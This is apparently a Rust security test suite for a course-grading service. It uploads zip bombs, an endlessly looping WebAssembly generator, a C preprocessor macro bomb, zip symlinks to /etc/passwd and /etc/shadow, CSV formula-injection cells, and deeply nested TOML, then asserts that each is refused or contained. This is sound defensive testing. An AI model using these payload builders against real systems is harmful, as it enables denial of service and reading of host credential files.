//! Hostile uploads of a careless or hostile instructor's account: zip bombs in the files the
//! budget once did not count (rosters, problem bundles), problems whose programs or limits
//! would hold the service for hours, and formulas in the cells of the gradebook files.

use std::io::Write;

use wasm_encoder::{CodeSection, ExportKind, ExportSection, Function, FunctionSection, MemorySection, MemoryType, Module, TypeSection};

use crate::Case;
use crate::common::{COURSE, Service, fixture, upload_problem, wait_for, zip};
use crate::service::served;

/// A zip of `entries` copies of one entry of `mib` MiB of zeros, named by `name(i)`: a few
/// MB compressed (the entry is compressed once and its compressed bytes copied).
fn copies_zip(entries: usize, mib: usize, name: fn(usize) -> String) -> Vec<u8> {
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated).large_file(false);
    out.start_file(name(0), options).unwrap();
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..mib {
        out.write_all(&zeros).unwrap();
    }
    for i in 1..entries {
        out.deep_copy_file(&name(0), &name(i)).unwrap();
    }
    out.finish().unwrap().into_inner()
}

fn roster_bombs_in_a_zip(service: &Service) -> String {
    let client = service.instructor();
    let problem = upload_problem(&client, "interval-sets");
    let bomb = copies_zip(300, 16, |i| format!("f{i}/roster.csv"));
    let reply = client.upload(&format!("/problems/{problem}/batches"), &[("name", "Rosters"), ("course", COURSE)], &[("modules", "rosters.zip", &bomb)]);
    assert_eq!(reply.status, 303, "{}", reply.body);
    let report = client.api(&format!("/api/uploads/{}", reply.redirect_id()));
    let said = report.to_string();
    assert!(said.contains("unpack to more than"), "{said}");
    format!("{} MB zip of 300 × 16 MiB rosters: refused past the 1 GiB budget, none held", bomb.len() >> 20)
}

fn bundle_bombs_in_folders(service: &Service) -> String {
    let client = service.instructor();
    let bomb = copies_zip(100, 32, |i| format!("d{i}/reference.wasm"));
    let reply = client.upload("/problems", &[], &[("bundle", "p.zip", &bomb)]);
    assert_eq!(reply.status, 400, "{}", reply.body);
    assert!(reply.body.contains("it holds <code>reference.wasm</code> twice: a bundle is one problem"), "{}", reply.body);
    format!("{} MB bundle of 100 × 32 MiB in folders: 400, nothing unpacked", bomb.len() >> 20)
}

/// The interval-sets bundle in folder `folder` with `problem.toml` and `generator.wasm`
/// replaced when given.
fn bundle(folder: &str, toml: Option<&str>, generator: Option<Vec<u8>>) -> Vec<u8> {
    let dir = fixture("interval-sets");
    let mut files: Vec<(String, Vec<u8>)> =
        ["reference.wasm", "statement.md"].iter().map(|f| (format!("{folder}/{f}"), std::fs::read(dir.join(f)).unwrap())).collect();
    files.push((format!("{folder}/problem.toml"), toml.map_or_else(|| std::fs::read(dir.join("problem.toml")).unwrap(), |t| t.as_bytes().to_vec())));
    files.push((format!("{folder}/generator.wasm"), generator.unwrap_or_else(|| std::fs::read(dir.join("generator.wasm")).unwrap())));
    let files: Vec<(&str, &[u8])> = files.iter().map(|(n, b)| (n.as_str(), b.as_slice())).collect();
    zip(&files)
}

/// A generator that never ends: `_start` loops.
fn looping_generator() -> Vec<u8> {
    let mut types = TypeSection::new();
    types.ty().function([], []);
    let mut functions = FunctionSection::new();
    functions.function(0);
    let mut memories = MemorySection::new();
    memories.memory(MemoryType { minimum: 1, maximum: None, memory64: false, shared: false, page_size_log2: None });
    let mut exports = ExportSection::new();
    exports.export("_start", ExportKind::Func, 0).export("memory", ExportKind::Memory, 0);
    let mut body = Function::new([]);
    body.instructions().loop_(wasm_encoder::BlockType::Empty).br(0).end().end();
    let mut code = CodeSection::new();
    code.function(&body);
    let mut module = Module::new();
    module.section(&types).section(&functions).section(&memories).section(&exports).section(&code);
    module.finish()
}

fn a_looping_generator_uploaded(service: &Service) -> String {
    let client = service.instructor();
    // The upload answers at once; the check's page says how far it has come while it
    // runs (each run of the generator takes its whole budget).
    let reply = client.upload("/problems", &[], &[("bundle", "loop.zip", &bundle("loop", None, Some(looping_generator())))]);
    assert_eq!(reply.status, 303, "{}", reply.body);
    let check = format!("/api{}", reply.location.unwrap());
    let progress = wait_for("the check's progress", || {
        let view = client.api(&check);
        assert_eq!(view["status"], "checking", "the check ended before its page showed its progress: {view:#}");
        Some(view["progress"].clone()).filter(|p| p["runs"].as_u64().is_some_and(|runs| runs > 0))
    });
    let page = client.get(&check.replacen("/api", "", 1)).body;
    assert!(page.contains(" runs made so far."), "{page}");
    let ended = wait_for("the check to end", || Some(client.api(&check)).filter(|view| view["status"] != "checking"));
    assert_eq!(ended["status"], "ready", "{ended:#}");
    let page = client.api(&format!("/api/problems/{}", ended["problem_id"]));
    let check = &page["check"]["checks"][0];
    assert_eq!(check["passed"], false, "{page:#}");
    assert!(check["detail"].as_str().unwrap().contains("the check stopped there"), "{check}");
    format!(
        "answered at once, {} runs shown after {} s; kept with its check failed: the generator stopped after 10 runs",
        progress["runs"], progress["seconds"]
    )
}

fn limits_without_bounds(service: &Service) -> String {
    let client = service.instructor();
    let toml = "title = \"x\"\n[limits]\nfuel_floor = 1_000_000_000_000_000\n";
    let reply = client.upload("/problems", &[], &[("bundle", "floor.zip", &bundle("floor", Some(toml), None))]);
    assert_eq!(reply.status, 400, "{}", reply.body);
    assert!(reply.body.contains("limits.fuel_floor must be between 1 and 10000000000"), "{}", reply.body);
    "400: fuel_floor 10^15 refused with its range".to_owned()
}

fn a_folder_name_of_300_characters(service: &Service) -> String {
    let client = service.instructor();
    let reply = client.upload("/problems", &[], &[("bundle", "long.zip", &bundle(&"n".repeat(300), None, None))]);
    assert_eq!(reply.status, 400, "{}", reply.body);
    assert!(reply.body.contains("has 300 characters, more than 64"), "{}", reply.body);
    "400 (not 500): the name's length said".to_owned()
}

fn formulas_in_gradebook_cells(service: &Service) -> String {
    let client = service.instructor();
    let problem = upload_problem(&client, "interval-sets");
    let a01 = std::fs::read(fixture("interval-sets").join("submissions/a01.wasm")).unwrap();
    let a02 = std::fs::read(fixture("interval-sets").join("submissions/a02.wasm")).unwrap();
    let roster = "id,cohort,name,email,sis_user_id\na01,x,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",@SUM(1+1),+1+1\na02,y,-2+3,\ta@b,\"\rc\"\n";
    let reply = client.upload(
        &format!("/problems/{problem}/batches"),
        &[("name", "Formulas"), ("course", COURSE)],
        &[("modules", "a01.wasm", &a01), ("modules", "a02.wasm", &a02), ("roster", "roster.csv", roster.as_bytes())],
    );
    assert_eq!(reply.status, 303, "{}", reply.body);
    let upload = client.api(&format!("/api/uploads/{}", reply.redirect_id()));
    let batch = upload["batch"].as_i64().unwrap_or_else(|| panic!("saved: {upload:#}"));
    let analysis = crate::common::run_analysis(&client, batch, &[("stable_after", "200")]);
    client.wait_for_analysis(analysis);
    for student in ["a01", "a02"] {
        crate::common::issue_link(&client, batch, student);
    }
    let mut cells = 0;
    for path in [format!("/analyses/{analysis}/files/canvas.csv"), format!("/analyses/{analysis}/files/moodle.csv"), "/students/links.csv".to_owned()] {
        let reply = client.get(&path);
        assert_eq!(reply.status, 200, "{path}: {}", reply.body);
        let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(reply.body.trim_start_matches('\u{feff}').as_bytes());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                cells += 1;
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{path}: the cell {cell:?} would be a formula");
            }
        }
    }
    format!("{cells} cells of canvas, moodle and links: none starts a formula")
}

/// A C source whose preprocessing never ends within the compile limit: 2^40 tokens.
fn macro_bomb() -> String {
    let mut bomb = String::from("#define A0 +1\n");
    for i in 1..=40 {
        bomb.push_str(&format!("#define A{i} A{} A{}\n", i - 1, i - 1));
    }
    bomb + "int y = 0 A40;\nint main(void) { return 0; }\n"
}

fn cancelling_a_batch_of_compile_bombs(service: &Service) -> String {
    let client = service.instructor();
    let problem = upload_problem(&client, "interval-sets");
    let bomb = macro_bomb();
    let files: Vec<(String, Vec<u8>)> = (1..=4).map(|i| (format!("b{i}.c"), bomb.as_bytes().to_vec())).collect();
    let files: Vec<(&str, &str, &[u8])> = files.iter().map(|(n, b)| ("modules", n.as_str(), b.as_slice())).collect();
    let reply = client.upload(&format!("/problems/{problem}/batches"), &[("name", "Bombs"), ("course", COURSE)], &files);
    assert_eq!(reply.status, 303, "{}", reply.body);
    let upload = client.api(&format!("/api/uploads/{}", reply.redirect_id()));
    let batch = upload["batch"].as_i64().unwrap_or_else(|| panic!("saved: {upload:#}"));
    let analysis = crate::common::run_analysis(&client, batch, &[]);
    wait_for("the analysis to start compiling", || (client.api(&format!("/api/analyses/{analysis}"))["progress"]["phase"] == "compiling").then_some(()));
    std::thread::sleep(std::time::Duration::from_secs(1));
    let asked = std::time::Instant::now();
    assert_eq!(client.post(&format!("/analyses/{analysis}/cancel"), &[]).status, 303);
    let ended = client.wait_for_analysis(analysis);
    let took = asked.elapsed();
    assert_eq!(ended["analysis"]["status"], "cancelled", "{:#}", ended["analysis"]);
    // Killed at once (a second here), not left to run to their limit: a quarter of the
    // limit is the margin a busy machine needs, and still tells the two apart.
    let limit = std::time::Duration::from_secs(toolchain::COMPILE_SECONDS);
    assert!(took < limit / 4, "cancelled after {took:?}; a compile's limit is {limit:?}");
    format!("cancelled {:.2} s after asking, two compiles killed", took.as_secs_f64())
}

/// A zip of `files`, and `links`: `(name, target)` entries that are symbolic links.
fn zip_with_links(files: &[(&str, &[u8])], links: &[(&str, &str)]) -> Vec<u8> {
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, bytes) in files {
        out.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        out.write_all(bytes).unwrap();
    }
    for (name, target) in links {
        out.add_symlink(*name, *target, zip::write::SimpleFileOptions::default()).unwrap();
    }
    out.finish().unwrap().into_inner()
}

fn links_in_zips(service: &Service) -> String {
    let client = service.instructor();
    let problem = upload_problem(&client, "interval-sets");
    let a01 = std::fs::read(fixture("interval-sets").join("submissions/a01.wasm")).unwrap();
    let batch = zip_with_links(&[("a01.wasm", &a01)], &[("a02.wasm", "/etc/passwd"), ("roster.csv", "/etc/shadow")]);
    let reply = client.upload(&format!("/problems/{problem}/batches"), &[("name", "Links"), ("course", COURSE)], &[("modules", "links.zip", &batch)]);
    assert_eq!(reply.status, 303, "{}", reply.body);
    let report = client.api(&format!("/api/uploads/{}", reply.redirect_id()));
    let said = report.to_string();
    assert!(said.contains("a02.wasm: a symbolic link in the zip, not a file"), "{said}");
    assert!(!said.contains("root:"), "nothing of the host is read: {said}");
    let dir = fixture("interval-sets");
    let read = |f: &str| std::fs::read(dir.join(f)).unwrap();
    let (toml, reference, generator) = (read("problem.toml"), read("reference.wasm"), read("generator.wasm"));
    let bundle = zip_with_links(&[("problem.toml", &toml), ("reference.wasm", &reference), ("generator.wasm", &generator)], &[("statement.md", "/etc/passwd")]);
    let reply = client.upload("/problems", &[], &[("bundle", "linked.zip", &bundle)]);
    assert_eq!(reply.status, 400, "{}", reply.body);
    assert!(reply.body.contains("statement.md: a symbolic link in the zip"), "{}", reply.body);
    "a batch's and a bundle's link entries refused by name".to_owned()
}

fn problem_toml_100000_deep(service: &Service) -> String {
    let client = service.instructor();
    let toml = format!("title = \"deep\"\nname = \"deep\"\nx = {}{}\n", "[".repeat(100_000), "]".repeat(100_000));
    let reply = client.upload("/problems", &[], &[("bundle", "deep.zip", &bundle("deep", Some(&toml), None))]);
    assert_eq!(reply.status, 400, "{}", reply.body);
    assert!(reply.body.contains("problem.toml"), "{}", reply.body);
    "400 at once: TOML's own depth limit".to_owned()
}

fn a_roster_of_100000_rows(service: &Service) -> String {
    let client = service.instructor();
    let problem = upload_problem(&client, "interval-sets");
    let a01 = std::fs::read(fixture("interval-sets").join("submissions/a01.wasm")).unwrap();
    let reply = client.upload(&format!("/problems/{problem}/batches"), &[("name", "Big roster"), ("course", COURSE)], &[("modules", "a01.wasm", &a01)]);
    assert_eq!(reply.status, 303, "{}", reply.body);
    let batch = client.api(&format!("/api/uploads/{}", reply.redirect_id()))["batch"].as_i64().unwrap();
    let roster = |rows: usize| format!("id,cohort\na01,A\n{}", (1..rows).map(|i| format!("s{i:06},B\n")).collect::<String>());
    let most = course::roster::MAX_ROSTER_ROWS;
    let reply = client.upload(&format!("/batches/{batch}/roster"), &[], &[("roster", "roster.csv", roster(most).as_bytes())]);
    assert_eq!(reply.status, 200, "{}", &reply.body[..reply.body.len().min(2000)]);
    assert!(reply.body.contains(&format!("{} students on it handed in nothing", most - 1)), "{}", &reply.body[..2000]);
    assert!(reply.body.len() < 100_000, "the reply names the first of them, not all: {} bytes", reply.body.len());
    let page = client.get(&format!("/batches/{batch}")).body;
    assert!(page.contains(&format!("{} of the {most} students on the roster handed in nothing", most - 1)), "{}", &page[..2000]);
    assert!(page.len() < 1_000_000, "the batch page lists the first of them, not all: {} bytes", page.len());
    let reply = client.upload(&format!("/batches/{batch}/roster"), &[], &[("roster", "roster.csv", roster(most + 1).as_bytes())]);
    assert_eq!(reply.status, 400, "{}", &reply.body[..reply.body.len().min(2000)]);
    assert!(reply.body.contains("more than the 100000 a roster may have"), "{}", &reply.body[..2000]);
    format!("{most} rows attached, {} refused by their count", most + 1)
}

pub fn cases() -> Vec<Case> {
    vec![
        served("links in a batch's zip and a bundle", &[], links_in_zips, 10.0, 250),
        served("problem.toml nested 100,000 deep in a bundle", &[], problem_toml_100000_deep, 10.0, 250),
        served("a roster of 100,000 rows attached, and one of 100,001", &[], a_roster_of_100000_rows, 20.0, 400),
        served("300 roster.csv entries of 16 MiB in one zip", &[], roster_bombs_in_a_zip, 20.0, 250),
        served("a problem bundle of 100 × 32 MiB entries in folders", &[], bundle_bombs_in_folders, 10.0, 250),
        served("a problem whose generator loops", &[], a_looping_generator_uploaded, 60.0, 400),
        served("problem.toml with fuel_floor 10^15", &[], limits_without_bounds, 10.0, 250),
        served("a problem folder named with 300 characters", &[], a_folder_name_of_300_characters, 10.0, 250),
        served("formulas in a roster's names, emails and ids", &[], formulas_in_gradebook_cells, 30.0, 250),
        // 30.5 and 32.6 s measured alone on a 2-core machine (2026-11-26), the service's
        // whole life: the cancel itself is bounded at 3 s inside the case.
        served("cancelling an analysis while it compiles 4 macro bombs", &[], cancelling_a_batch_of_compile_bombs, 90.0, 300),
    ]
}
